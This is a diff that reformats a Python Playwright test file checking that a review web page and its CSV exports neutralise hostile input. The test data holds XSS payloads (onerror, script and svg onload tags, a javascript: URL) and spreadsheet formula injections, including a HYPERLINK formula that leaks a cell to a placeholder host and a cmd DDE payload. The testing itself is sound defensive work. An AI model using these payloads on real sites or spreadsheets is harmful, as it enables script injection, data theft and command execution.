@@ -1,4 +1,6 @@
-"""Would win: the reviewer's browser, table program or patience, by a file or a code list that the page opens."""
+"""Would win: the reviewer's browser, table program or patience, by a file or a code list that the
+page opens.
+"""
 
 import csv
 import io
@@ -13,7 +15,10 @@ from storage.tables.formulas import escape_formula
 from tasks.coding.coder import Coder
 
 pytest.importorskip("playwright.sync_api", reason="Playwright is not installed")
-pytestmark = [pytest.mark.servers, pytest.mark.skipif(CHROMIUM is None, reason="Chromium is not installed")]
+pytestmark = [
+    pytest.mark.servers,
+    pytest.mark.skipif(CHROMIUM is None, reason="Chromium is not installed"),
+]
 
 DECLARES = """
 a file under review stays text in the browser
@@ -30,11 +35,15 @@ a saved review is no formula
 | the JSON for Label Studio, which has the texts as they are
 """
 
-SCRIPT = "<img src=x onerror=\"window.hit=1\"><script>window.hit=1</script><svg onload='window.hit=1'>"
+SCRIPT = (
+    "<img src=x onerror=\"window.hit=1\"><script>window.hit=1</script><svg onload='window.hit=1'>"
+)
 
 
 def test_markup_in_a_file_and_in_titles(coder: Coder, tmp_path: Path) -> None:
-    """Nothing of it becomes an element, runs or asks for anything; the policy of content stops what is put in."""
+    """Nothing of it becomes an element, runs or asks for anything; the policy of content stops what
+    is put in.
+    """
     hostile = replace(coder, titles=dict.fromkeys(coder.titles, SCRIPT), classification=SCRIPT)
     text = coded(3, texts=[SCRIPT, "</style></textarea>" + SCRIPT, "javascript:window.hit=1"])
     rows = list(csv.reader(io.StringIO(text)))
@@ -55,11 +64,16 @@ def test_markup_in_a_file_and_in_titles(coder: Coder, tmp_path: Path) -> None:
         assert page.locator("img, svg, iframe, script[src]").count() == 0
         assert SCRIPT in page.locator("#case").text_content()
         assert not [
-            one for one in page.seen if not one.startswith(("http://127.0.0.1:", "blob:", "dialog beforeunload"))
+            one
+            for one in page.seen
+            if not one.startswith(("http://127.0.0.1:", "blob:", "dialog beforeunload"))
         ]
         assert not [one for one in page.seen if one.endswith("/x")]
         page.evaluate("html => document.body.insertAdjacentHTML('beforeend', html)", SCRIPT)
-        page.evaluate("document.body.append(Object.assign(document.createElement('script'), {textContent: 'hit=1'}))")
+        page.evaluate(
+            "document.body.append(Object.assign(document.createElement('script'), {textContent: "
+            "'hit=1'}))"
+        )
         page.wait_for_timeout(300)
         assert page.evaluate("window.hit === undefined")
 
@@ -77,7 +91,9 @@ HEAD = {name: at for at, name in enumerate(coded(0).strip().split(","))}
     ],
     ids=["columns", "rows", "quote", "quotes"],
 )
-def test_a_million_cells_that_are_refused(coder: Coder, tmp_path: Path, content: str, words: str) -> None:
+def test_a_million_cells_that_are_refused(
+    coder: Coder, tmp_path: Path, content: str, words: str
+) -> None:
     (tmp_path / "hostile.csv").write_text(content)
     (tmp_path / "good.csv").write_text(coded(3), newline="")
     with serving(coder) as address, browsing() as page:
@@ -105,7 +121,10 @@ def test_formulas_in_what_is_saved(coder: Coder, tmp_path: Path) -> None:
     """Every cell is what the writer of `autocoder code` would leave."""
     formula = '=HYPERLINK("http://x/?"&A1,"ok")'
     rows = [["@case", "narrative", "code", "score", "code_by_hand"]]
-    rows += [[formula, "fell\r\n", "111", "-5", "+cmd|' /C calc'!A0"], ["\t=1", " =1", "132", "0.5", ""]]
+    rows += [
+        [formula, "fell\r\n", "111", "-5", "+cmd|' /C calc'!A0"],
+        ["\t=1", " =1", "132", "0.5", ""],
+    ]
     written = io.StringIO()
     csv.writer(written).writerows(rows)
     (tmp_path / "hostile.csv").write_text(written.getvalue(), newline="")
